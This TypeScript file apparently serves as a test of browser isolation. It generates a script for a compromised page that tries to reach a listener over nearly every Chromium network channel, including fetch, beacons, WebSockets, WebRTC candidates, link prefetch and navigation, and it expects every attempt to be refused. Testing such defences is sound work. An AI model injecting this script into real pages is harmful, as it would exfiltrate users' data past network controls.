// What script in a page that has been taken over would try to get a byte out, over every API that Chromium has.

/** An expression for the page; `addresses` are of this machine, where somebody listens on `port` (TCP and UDP). */
export function attackOn(addresses: readonly string[], port: number): string {
  return `(${attack.toString()})(${JSON.stringify(addresses)}, ${port})`;
}

/** Runs in the page: nothing from outside. */
async function attack(addresses: readonly string[], port: number): Promise<void> {
  const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  const make = (name: string, more: object) =>
    document.head.appendChild(Object.assign(document.createElement(name), more));
  const peers = async (host: string) => {
    const iceServers = [
      { urls: `stun:${host}:${port}` },
      ...['udp', 'tcp'].map((by) => ({ urls: `turn:${host}:${port}?transport=${by}`, username: 'x', credential: 'x' })),
      { urls: `turns:${host}:${port}`, username: 'x', credential: 'x' },
    ];
    const [one, two] = [new RTCPeerConnection({ iceServers }), new RTCPeerConnection({ iceServers })];
    one.createDataChannel('x');
    await one.setLocalDescription();
    if (one.localDescription) await two.setRemoteDescription(one.localDescription);
    await two.setLocalDescription();
    if (two.localDescription) await one.setRemoteDescription(two.localDescription);
    for (const candidate of [
      `candidate:1 1 udp 2130706431 ${host} ${port} typ host`,
      `candidate:2 1 tcp 1518280447 ${host} ${port} typ host tcptype passive`,
      `candidate:3 1 udp 2130706431 x.local ${port} typ host`,
    ]) {
      for (const peer of [one, two]) await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    }
  };
  const attempts = addresses.flatMap((host): (() => unknown)[] => {
    const url = `http://${host}:${port}/`;
    const transport: unknown = Reflect.get(window, 'WebTransport');
    return [
      () => fetch(url, { mode: 'no-cors' }),
      () => navigator.sendBeacon(url, 'x'),
      () => new WebSocket(url.replace('http', 'ws')),
      () => new EventSource(url),
      () => (Reflect.construct(transport as () => void, [url.replace('http', 'https')]) as { ready: unknown }).ready,
      () => (new Image().src = url),
      () => new FontFace('x', `url(${url})`).load(),
      () => document.body.style.setProperty('background-image', `url(${url})`),
      () => make('video', { src: url }),
      () => make('iframe', { src: url }),
      () => make('form', { action: url }).dispatchEvent(new Event('submit')),
      ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon', 'manifest'].map(
        (rel) => () => make('link', { rel, as: 'image', href: url }),
      ),
      () => peers(host),
      () => make('a', { href: url, ping: url }).dispatchEvent(new MouseEvent('click')),
      () => window.open(url),
      () => location.assign(url),
    ];
  });
  for (const attempt of attempts) {
    try {
      await Promise.race([attempt(), wait(1000)]);
    } catch {
      // refused, as it should be
    }
  }
  await wait(2500); // connection checks go on by themselves
}
